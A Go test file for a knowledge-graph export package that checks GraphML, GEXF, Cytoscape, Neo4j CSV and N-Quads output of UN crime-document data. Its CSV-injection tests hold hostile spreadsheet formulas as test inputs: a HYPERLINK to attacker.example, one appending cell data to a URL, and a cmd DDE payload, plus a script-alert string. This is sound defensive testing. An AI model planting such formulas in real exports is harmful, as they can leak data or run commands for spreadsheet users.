package export_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/crimegraph/crimegraph/internal/export"
	"github.com/crimegraph/crimegraph/internal/kg"
	"github.com/crimegraph/crimegraph/internal/testtool"
)

// tricky is text that breaks naive writers: quotes, line breaks, commas,
// semicolons, tabs, backslashes, markup, unicode.
const tricky = "He said \"stop\", then: 'go';\nline two\twith tab, a \\ backslash, <script>alert(1)</script> & \"]]>\"\r\nTürkiye — Côte d’Ivoire 中文 🚀"

func node(k kg.Kind, key, label string, props ...string) kg.Node {
	n := kg.Node{ID: kg.NewID(k, key), Kind: k, Label: label, Props: map[string]string{}}
	for i := 0; i+1 < len(props); i += 2 {
		n.Props[props[i]] = props[i+1]
	}
	return n
}

var (
	tur = func() kg.Node {
		n := node(kg.KindState, "TUR", "Türkiye", kg.PropISO3, "TUR", kg.PropM49, "792", kg.PropRegion, "Asia")
		n.Aliases = []string{"Republic of Türkiye", "Turkey"}
		return n
	}()
	tip    = node(kg.KindCrimeType, "0204", "Trafficking in persons", kg.PropICCS, "0204", kg.PropCyber, "false")
	doc    = node(kg.KindDocument, "S/2025/85", "Letter dated 4 February 2025 from the Secretary-General", kg.PropSymbol, "S/2025/85", kg.PropDate, "2025-02-06")
	rec61j = func() kg.Node {
		n := node(kg.KindRecommendation, "S/2025/85#61(j)", "Recommendation 61(j)",
			kg.PropRef, "61(j)", kg.PropDocument, "S/2025/85", kg.PropText, tricky,
			kg.PropOrder, "12", kg.PropPage, "twenty-two", "customProp", "kept, as extra")
		n.ID = kg.PartID(kg.KindRecommendation, "S/2025/85", "61(j)")
		return n
	}()
	unodc = func() kg.Node {
		n := node(kg.KindOrganization, "UNODC", `UNODC "the Office", Vienna; <b>bold</b> & co`, kg.PropAcronym, "UNODC")
		n.Aliases = []string{"Office; on Drugs, and Crime", tricky}
		return n
	}()
	meeting = node(kg.KindMeeting, "rpm-lac-2025", "Latin American and Caribbean Regional Preparatory Meeting",
		kg.PropStart, "2025-02-04", kg.PropEnd, "not a date", kg.PropVenue, "San José")
)

// fixture is a small subgraph with tricky text in labels, aliases,
// properties, edge roles and evidence, parallel edges (two kinds between
// the same nodes), an edge without evidence, and properties that do not
// parse as their type.
func fixture() kg.Subgraph {
	g := kg.Subgraph{
		Title: "S/2025/85, recommendation 61(j): \"everything it touches\"",
		Focus: []kg.ID{rec61j.ID},
		Nodes: []kg.Node{tur, tip, doc, rec61j, unodc, meeting},
		Edges: []kg.Edge{
			{From: rec61j.ID, Kind: kg.EdgeAddresses, To: tip.ID, Evidence: []kg.Evidence{
				{Doc: "S/2025/85", Ref: "61(j)", Start: 10, End: 42}, {Doc: "E/2025/28", Ref: "12"}}},
			{From: rec61j.ID, Kind: kg.EdgeAddressedTo, To: unodc.ID, Evidence: []kg.Evidence{{Doc: "S/2025/85", Ref: "61"}}},
			{From: rec61j.ID, Kind: kg.EdgeNamesActor, To: unodc.ID, Evidence: []kg.Evidence{{Doc: "S/2025/85", Ref: "61(j)"}}},
			{From: tur.ID, Kind: kg.EdgeAttended, To: meeting.ID, Props: map[string]string{kg.PropRole: "member", "note": tricky},
				Evidence: []kg.Evidence{{Doc: `odd "doc"; key, \ with <tags>`, Ref: "70(a)(ii)"}}},
			{From: doc.ID, Kind: kg.EdgeContains, To: rec61j.ID},
		},
	}
	g.Sort()
	return g
}

func exportBytes(t *testing.T, f export.Format) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := export.Export(&b, f, fixture(), export.Options{}); err != nil {
		t.Fatalf("Export(%s): %v", f, err)
	}
	return b.Bytes()
}

func writeTemp(t *testing.T, name string, b []byte) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(p, b, 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

// TestGolden pins every format's output for the fixture. Refresh with
// make golden.
func TestGolden(t *testing.T) {
	for _, f := range export.Formats {
		if f == export.Neo4j || f == export.NodesCSV || f == export.EdgesCSV {
			continue // the zip's CSV files, pinned below
		}
		t.Run(string(f), func(t *testing.T) {
			got := exportBytes(t, f)
			if again := exportBytes(t, f); !bytes.Equal(got, again) {
				t.Fatal("export is not deterministic")
			}
			golden(t, "fixture"+f.Extension(), got)
		})
	}
	var nodes, edges bytes.Buffer
	if err := export.Write(export.NewNeo4jCSV(&nodes, &edges, export.Options{}), fixture()); err != nil {
		t.Fatal(err)
	}
	golden(t, "fixture-nodes.csv", nodes.Bytes())
	golden(t, "fixture-edges.csv", edges.Bytes())
	if got := exportBytes(t, export.NodesCSV); !bytes.Equal(got, nodes.Bytes()) {
		t.Error("csv-nodes differs from the Neo4j export's nodes.csv")
	}
	if got := exportBytes(t, export.EdgesCSV); !bytes.Equal(got, edges.Bytes()) {
		t.Error("csv-edges differs from the Neo4j export's edges.csv")
	}
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	testtool.Golden(t, filepath.Join("testdata", name), got)
}

// TestGraphMLSchema validates GraphML exports against the GraphML XSD.
func TestGraphMLSchema(t *testing.T) {
	xmllint := testtool.Need(t, "xmllint", "libxml2-utils")
	for name, g := range map[string]kg.Subgraph{"fixture": fixture(), "empty": {}} {
		var b bytes.Buffer
		if err := export.Export(&b, export.GraphML, g, export.Options{}); err != nil {
			t.Fatal(err)
		}
		p := writeTemp(t, name+".graphml", b.Bytes())
		out, err := exec.Command(xmllint, "--nonet", "--noout", "--schema", "testdata/graphml/graphml.xsd", p).CombinedOutput()
		if err != nil || !strings.Contains(string(out), "validates") {
			t.Errorf("%s: xmllint: %v\n%s", name, err, out)
		}
	}
}

// python finds a Python that has networkx (Debian: python3-networkx).
func python(t *testing.T) string {
	t.Helper()
	for _, p := range []string{"python3", "/usr/bin/python3"} {
		if path, err := exec.LookPath(p); err == nil {
			if exec.Command(path, "-c", "import networkx").Run() == nil {
				return path
			}
		}
	}
	if os.Getenv("CI") != "" {
		t.Fatal("no python3 with networkx (install Debian package python3-networkx)")
	}
	t.Skip("no python3 with networkx (install Debian package python3-networkx)")
	return ""
}

type readBack struct {
	Nodes int                       `json:"nodes"`
	Edges int                       `json:"edges"`
	Node  map[string]map[string]any `json:"node"`
	Edge  []map[string]any          `json:"edge"`
}

func networkxRead(t *testing.T, py, format string, b []byte) readBack {
	t.Helper()
	p := writeTemp(t, "g."+format, b)
	out, err := exec.Command(py, "testdata/readback.py", format, p).Output()
	if err != nil {
		var ee *exec.ExitError
		if ok := asExit(err, &ee); ok {
			t.Fatalf("networkx could not read the %s: %v\n%s", format, err, ee.Stderr)
		}
		t.Fatal(err)
	}
	var rb readBack
	if err := json.Unmarshal(out, &rb); err != nil {
		t.Fatal(err)
	}
	return rb
}

func asExit(err error, ee **exec.ExitError) bool {
	e, ok := err.(*exec.ExitError)
	*ee = e
	return ok
}

// TestNetworkxReadsGraphMLAndGEXF: networkx reads both XML formats back
// with every node and edge, and the tricky text intact.
func TestNetworkxReadsGraphMLAndGEXF(t *testing.T) {
	py := python(t)
	g := fixture()
	for _, f := range []export.Format{export.GraphML, export.GEXF} {
		t.Run(string(f), func(t *testing.T) {
			rb := networkxRead(t, py, string(f), exportBytes(t, f))
			if rb.Nodes != len(g.Nodes) || rb.Edges != len(g.Edges) {
				t.Fatalf("networkx read %d nodes and %d edges, want %d and %d", rb.Nodes, rb.Edges, len(g.Nodes), len(g.Edges))
			}
			key := string(rec61j.ID)
			if f == export.GraphML {
				key = export.NMToken(key)
				if rb.Node[key]["id"] != string(rec61j.ID) {
					t.Errorf("graphml id attribute = %v", rb.Node[key]["id"])
				}
			}
			rec := rb.Node[key]
			if rec == nil {
				t.Fatalf("no node %s in %v", key, rb.Node)
			}
			if rec["text"] != tricky {
				t.Errorf("text = %q, want %q", rec["text"], tricky)
			}
			if rec["order"] != float64(12) {
				t.Errorf("order = %#v, want the number 12", rec["order"])
			}
			if !strings.Contains(rec["extra"].(string), "twenty-two") {
				t.Errorf("extra = %v", rec["extra"])
			}
			uk := string(unodc.ID)
			if f == export.GraphML {
				uk = export.NMToken(uk)
			}
			if rb.Node[uk]["label"] != unodc.Label {
				t.Errorf("label = %q, want %q", rb.Node[uk]["label"], unodc.Label)
			}
			var aliases []string
			if err := json.Unmarshal([]byte(rb.Node[uk]["aliases"].(string)), &aliases); err != nil || !cmp.Equal(aliases, []string{tricky, "Office; on Drugs, and Crime"}) {
				t.Errorf("aliases = %v (%v)", rb.Node[uk]["aliases"], err)
			}
			withEvidence := 0
			for _, e := range rb.Edge {
				var ev []map[string]any
				if err := json.Unmarshal([]byte(e["evidence"].(string)), &ev); err != nil {
					t.Errorf("evidence %v: %v", e["evidence"], err)
				}
				if len(ev) > 0 {
					withEvidence++
				}
				if e["kind"] == string(kg.EdgeAttended) {
					if e["role"] != "member" || !strings.Contains(e["extra"].(string), "stop") {
						t.Errorf("attended edge = %v", e)
					}
					if ev[0]["doc"] != `odd "doc"; key, \ with <tags>` {
						t.Errorf("evidence doc = %q", ev[0]["doc"])
					}
				}
			}
			if withEvidence != 4 {
				t.Errorf("%d edges with evidence, want 4", withEvidence)
			}
		})
	}
}

// TestCytoscapeJSON: the JSON is Cytoscape.js elements with typed data and
// evidence on every edge.
func TestCytoscapeJSON(t *testing.T) {
	var doc struct {
		Data     map[string]any `json:"data"`
		Elements struct {
			Nodes []struct{ Data map[string]any } `json:"nodes"`
			Edges []struct{ Data map[string]any } `json:"edges"`
		} `json:"elements"`
	}
	if err := json.Unmarshal(exportBytes(t, export.Cytoscape), &doc); err != nil {
		t.Fatal(err)
	}
	g := fixture()
	if len(doc.Elements.Nodes) != len(g.Nodes) || len(doc.Elements.Edges) != len(g.Edges) {
		t.Fatalf("%d nodes, %d edges", len(doc.Elements.Nodes), len(doc.Elements.Edges))
	}
	if doc.Data["name"] != g.Title {
		t.Errorf("name = %v", doc.Data["name"])
	}
	ids := map[string]bool{}
	for _, n := range doc.Elements.Nodes {
		ids[n.Data["id"].(string)] = true
		if n.Data["id"] == string(rec61j.ID) {
			if n.Data["text"] != tricky || n.Data["order"] != float64(12) || n.Data["href"] != kg.EntityPath(rec61j.ID) {
				t.Errorf("recommendation data = %v", n.Data)
			}
		}
		if n.Data["id"] == string(tip.ID) && n.Data["cyber"] != false {
			t.Errorf("cyber = %#v, want false", n.Data["cyber"])
		}
	}
	for _, e := range doc.Elements.Edges {
		if !ids[e.Data["source"].(string)] || !ids[e.Data["target"].(string)] {
			t.Errorf("edge %v has an end that is not a node", e.Data["id"])
		}
		if _, ok := e.Data["evidence"].([]any); !ok {
			t.Errorf("edge %v has no evidence array", e.Data["id"])
		}
	}
}

// TestNeo4jCSV: both files parse back as CSV with the importer's header
// and the tricky text intact.
func TestNeo4jCSV(t *testing.T) {
	var nodes, edges bytes.Buffer
	g := fixture()
	if err := export.Write(export.NewNeo4jCSV(&nodes, &edges, export.Options{}), g); err != nil {
		t.Fatal(err)
	}
	// The file holds the text byte for byte (quotes doubled); Go's CSV
	// reader then turns the CR LF inside a field into LF.
	if !bytes.Contains(nodes.Bytes(), []byte(strings.ReplaceAll(tricky, `"`, `""`))) {
		t.Error("nodes.csv does not hold the tricky text byte for byte")
	}
	readTricky := strings.ReplaceAll(tricky, "\r\n", "\n")
	nrows, err := csv.NewReader(&nodes).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	erows, err := csv.NewReader(&edges).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(nrows) != len(g.Nodes)+1 || len(erows) != len(g.Edges)+1 {
		t.Fatalf("%d node rows, %d edge rows", len(nrows), len(erows))
	}
	col := func(header []string, name string) int {
		for i, h := range header {
			if h == name {
				return i
			}
		}
		t.Fatalf("no column %s in %v", name, header)
		return -1
	}
	nh, eh := nrows[0], erows[0]
	for _, want := range []string{"id:ID", ":LABEL", "order:int", "cyber:boolean", "date:date", "aliases:string[]"} {
		col(nh, want)
	}
	for _, want := range []string{":START_ID", ":END_ID", ":TYPE", "evidence:string[]", "evidenceJson"} {
		col(eh, want)
	}
	for _, r := range nrows[1:] {
		switch r[col(nh, "id:ID")] {
		case string(rec61j.ID):
			if r[col(nh, "text")] != readTricky || r[col(nh, ":LABEL")] != "Recommendation;Entity" || r[col(nh, "order:int")] != "12" {
				t.Errorf("recommendation row = %q", r)
			}
			if r[col(nh, "page:int")] != "" || !strings.Contains(r[col(nh, "extra")], "twenty-two") {
				t.Errorf("a bad int must move to extra: %q", r)
			}
		case string(unodc.ID):
			if r[col(nh, "label")] != unodc.Label {
				t.Errorf("label = %q", r[col(nh, "label")])
			}
			if got := strings.Split(r[col(nh, "aliases:string[]")], ";"); len(got) != 2 {
				t.Errorf("aliases split into %d by the array delimiter: %q", len(got), got)
			}
		case string(meeting.ID):
			if r[col(nh, "endDate:date")] != "" || r[col(nh, "startDate:date")] != "2025-02-04" {
				t.Errorf("meeting dates = %q", r)
			}
		}
	}
	for _, r := range erows[1:] {
		var ev []map[string]any
		if err := json.Unmarshal([]byte(r[col(eh, "evidenceJson")]), &ev); err != nil {
			t.Errorf("evidenceJson %q: %v", r[col(eh, "evidenceJson")], err)
		}
		if r[col(eh, ":TYPE")] == string(kg.EdgeAddresses) && r[col(eh, "citations")] != "E/2025/28, para. 12; S/2025/85, para. 61(j)" {
			t.Errorf("citations = %q", r[col(eh, "citations")])
		}
	}
}

func TestNeo4jZip(t *testing.T) {
	z, err := zip.NewReader(bytes.NewReader(exportBytes(t, export.Neo4j)), int64(len(exportBytes(t, export.Neo4j))))
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, f := range z.File {
		names = append(names, f.Name)
	}
	if diff := cmp.Diff([]string{"nodes.csv", "edges.csv", "import.txt"}, names); diff != "" {
		t.Errorf("zip entries (-want +got):\n%s", diff)
	}
}

// nquadRE is one N-Quads statement in the default graph, as Dgraph reads
// it: IRI subject and predicate, IRI or literal object, no graph label.
var nquadRE = regexp.MustCompile(`^<([^<>"{}|^` + "`" + `\\\x00-\x20]+)> <([^<>"{}|^` + "`" + `\\\x00-\x20]+)> (?:<([^<>"{}|^` + "`" + `\\\x00-\x20]+)>|("(?:[^"\\\n\r]|\\.)*")(?:\^\^<([^>]+)>)?) \.$`)

// TestNQuads: rapper parses every statement; every line has the shape
// Dgraph's loader accepts, with literals Go's strconv.Unquote (Dgraph's
// unescaper) decodes to the original text, and typed literals of types
// Dgraph knows.
func TestNQuads(t *testing.T) {
	b := exportBytes(t, export.NQuads)
	lines := strings.Split(strings.TrimSuffix(string(b), "\n"), "\n")
	dgraphTypes := map[string]bool{
		"http://www.w3.org/2001/XMLSchema#int": true, "http://www.w3.org/2001/XMLSchema#boolean": true,
		"http://www.w3.org/2001/XMLSchema#date": true,
	}
	var labels []string
	for _, l := range lines {
		m := nquadRE.FindStringSubmatch(l)
		if m == nil {
			t.Fatalf("not a Dgraph-readable statement: %s", l)
		}
		if m[4] != "" {
			v, err := strconv.Unquote(m[4])
			if err != nil {
				t.Fatalf("literal %s does not unquote: %v", m[4], err)
			}
			if m[5] != "" && !dgraphTypes[m[5]] {
				t.Errorf("literal type %s unknown to Dgraph", m[5])
			}
			if strings.HasSuffix(m[2], "/ontology/text") || strings.HasSuffix(m[2], "/ontology/label") {
				labels = append(labels, v)
			}
		}
	}
	if !contains(labels, tricky) || !contains(labels, unodc.Label) {
		t.Errorf("tricky text did not survive: %q", labels)
	}
	rapper := testtool.Need(t, "rapper", "raptor2-utils")
	p := writeTemp(t, "g.nq", b)
	out, err := exec.Command(rapper, "-q", "-i", "nquads", "-o", "nquads", p).Output()
	if err != nil {
		t.Fatalf("rapper: %v", err)
	}
	if n := strings.Count(string(out), "\n"); n != len(lines) {
		t.Errorf("rapper read %d statements, we wrote %d", n, len(lines))
	}
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

func TestIRIs(t *testing.T) {
	i := export.IRIs{Base: export.DefaultBaseIRI}
	if got, want := i.Node(rec61j.ID), "https://crimegraph.example/id/recommendation%3AS%2F2025%2F85%2361%28j%29"; got != want {
		t.Errorf("Node IRI = %s, want %s", got, want)
	}
	if got := export.NMToken(string(rec61j.ID)); got != "recommendation:S_2F2025_2F85_2361_28j_29" {
		t.Errorf("NMToken = %s", got)
	}
}

func TestDgraphSchema(t *testing.T) {
	var b bytes.Buffer
	if err := export.DgraphSchema(&b, ""); err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	re := regexp.MustCompile(`^<([^>]+)>: (\[uid\]|\[string\]|string|int|bool|datetime)( @[a-z]+(\([a-z, ]+\))?)* \.$`)
	for _, l := range strings.Split(strings.TrimSpace(b.String()), "\n") {
		m := re.FindStringSubmatch(l)
		if m == nil {
			t.Fatalf("bad schema line %q", l)
		}
		if seen[m[1]] {
			t.Errorf("predicate %s declared twice", m[1])
		}
		seen[m[1]] = true
	}
}

// TestStreamingOrder: sectioned formats refuse a node after an edge, and
// every encoder refuses writes after Close.
func TestStreamingOrder(t *testing.T) {
	for _, f := range []func(*bytes.Buffer) export.Encoder{
		func(b *bytes.Buffer) export.Encoder { return export.NewGEXF(b, export.Options{}) },
		func(b *bytes.Buffer) export.Encoder { return export.NewCytoscape(b, export.Options{}) },
	} {
		var b bytes.Buffer
		enc := f(&b)
		if err := enc.Node(tur); err != nil {
			t.Fatal(err)
		}
		if err := enc.Edge(kg.Edge{From: tur.ID, Kind: kg.EdgeAttended, To: tur.ID}); err != nil {
			t.Fatal(err)
		}
		if err := enc.Node(tip); err == nil {
			t.Error("a node after an edge was accepted")
		}
	}
	for _, enc := range []export.Encoder{
		export.NewGraphML(&bytes.Buffer{}, export.Options{}), export.NewGEXF(&bytes.Buffer{}, export.Options{}),
		export.NewCytoscape(&bytes.Buffer{}, export.Options{}), export.NewNQuads(&bytes.Buffer{}, export.Options{}),
		export.NewNeo4jCSV(&bytes.Buffer{}, &bytes.Buffer{}, export.Options{}),
	} {
		if err := enc.Close(); err != nil {
			t.Fatal(err)
		}
		if err := enc.Node(tur); err == nil {
			t.Errorf("%T accepted a node after Close", enc)
		}
	}
}

func TestParseFormat(t *testing.T) {
	for in, want := range map[string]export.Format{"GraphML": export.GraphML, "csv": export.Neo4j, "n-quads": export.NQuads, "cytoscape": export.Cytoscape} {
		if got, err := export.ParseFormat(in); err != nil || got != want {
			t.Errorf("ParseFormat(%q) = %v, %v", in, got, err)
		}
	}
	if _, err := export.ParseFormat("xlsx"); kg.ErrorCode(err) != kg.CodeInvalid {
		t.Errorf("xlsx: %v", err)
	}
}

// TestSpreadsheetSafe is OWASP's CSV-injection rule: a cell a spreadsheet
// would run as a formula gets a leading quote; numbers and other text pass.
func TestSpreadsheetSafe(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{`=HYPERLINK("http://x/?"&A1,"Report")`, `'=HYPERLINK("http://x/?"&A1,"Report")`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"@SUM(1+1)", "'@SUM(1+1)"},
		{"-2+3", "'-2+3"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"-2", "-2"},
		{"+3", "+3"},
		{"-12.5", "-12.5"},
		{"12", "12"},
		{"2025-02-04", "2025-02-04"},
		{"", ""},
		{"Trafficking in persons", "Trafficking in persons"},
		{" =1", " =1"},
		{"'=1", "'=1"},
		{`{"a":"=1"}`, `{"a":"=1"}`},
	} {
		if got := export.SpreadsheetSafe(tc.in); got != tc.want {
			t.Errorf("SpreadsheetSafe(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// TestNeo4jCSVFormulas: a hostile label, alias and text are neutralised in
// the Neo4j CSV, element by element in arrays; a negative number in an int
// column stays a number Neo4j's importer reads.
func TestNeo4jCSVFormulas(t *testing.T) {
	n := node(kg.KindParagraph, "S/2025/85#7", "=HYPERLINK(\"http://attacker.example/\",\"x\")",
		kg.PropText, "-2+3 cases", kg.PropOrder, "-2", kg.PropRef, "7")
	n.Aliases = []string{"ok", "@SUM(1+1)"}
	var nodes, edges bytes.Buffer
	g := kg.Subgraph{Nodes: []kg.Node{n}, Edges: []kg.Edge{{From: n.ID, Kind: kg.EdgeMentions, To: tip.ID,
		Props: map[string]string{kg.PropRole: "+cmd|' /C calc'!A0"}}}}
	if err := export.Write(export.NewNeo4jCSV(&nodes, &edges, export.Options{}), g); err != nil {
		t.Fatal(err)
	}
	nrows, err := csv.NewReader(&nodes).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	erows, err := csv.NewReader(&edges).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	get := func(rows [][]string, col string) string {
		for i, h := range rows[0] {
			if h == col {
				return rows[1][i]
			}
		}
		t.Fatalf("no column %s", col)
		return ""
	}
	for _, tc := range []struct{ got, want string }{
		{get(nrows, "label"), `'=HYPERLINK("http://attacker.example/","x")`},
		{get(nrows, "text"), "'-2+3 cases"},
		{get(nrows, "order:int"), "-2"},
		{get(nrows, "aliases:string[]"), "ok;'@SUM(1+1)"},
		{get(erows, "role"), "'+cmd|' /C calc'!A0"},
		{get(nrows, "id:ID"), string(n.ID)},
	} {
		if tc.got != tc.want {
			t.Errorf("cell = %q, want %q", tc.got, tc.want)
		}
	}
}

// TestEveryKindExported walks kg.Kinds and kg.EdgeKinds: a graph with a
// node of every kind and an edge of every edge kind comes out of every
// format with each kind and each relation named, and the Dgraph schema
// declares every relation.
func TestEveryKindExported(t *testing.T) {
	var g kg.Subgraph
	for _, k := range kg.Kinds {
		g.Nodes = append(g.Nodes, kg.Node{ID: kg.NewID(k, "x"), Kind: k, Label: "a " + string(k)})
	}
	for i, e := range kg.EdgeKinds {
		g.Edges = append(g.Edges, kg.Edge{From: g.Nodes[i%len(g.Nodes)].ID, Kind: e, To: g.Nodes[(i+1)%len(g.Nodes)].ID,
			Evidence: []kg.Evidence{{Doc: "S/2025/85", Ref: strconv.Itoa(i)}}})
	}
	for _, f := range export.Formats {
		var buf bytes.Buffer
		if err := export.Export(&buf, f, g, export.Options{}); err != nil {
			t.Fatalf("%s: %v", f, err)
		}
		text := buf.String()
		if f == export.Neo4j {
			z, err := zip.NewReader(bytes.NewReader(buf.Bytes()), int64(buf.Len()))
			if err != nil {
				t.Fatal(err)
			}
			text = ""
			for _, zf := range z.File {
				r, _ := zf.Open()
				b, _ := io.ReadAll(r)
				text += string(b)
			}
		}
		if f == export.DgraphSchemaFormat {
			for _, e := range kg.EdgeKinds {
				if !strings.Contains(text, "/ontology/"+string(e)+">: [uid] @reverse .") {
					t.Errorf("the Dgraph schema lacks %s", e)
				}
			}
			continue
		}
		for _, k := range kg.Kinds {
			if f != export.EdgesCSV && !strings.Contains(text, string(k)) {
				t.Errorf("%s lacks kind %s", f, k)
			}
		}
		for _, e := range kg.EdgeKinds {
			if f != export.NodesCSV && !strings.Contains(text, string(e)) {
				t.Errorf("%s lacks edge kind %s", f, e)
			}
		}
	}
}
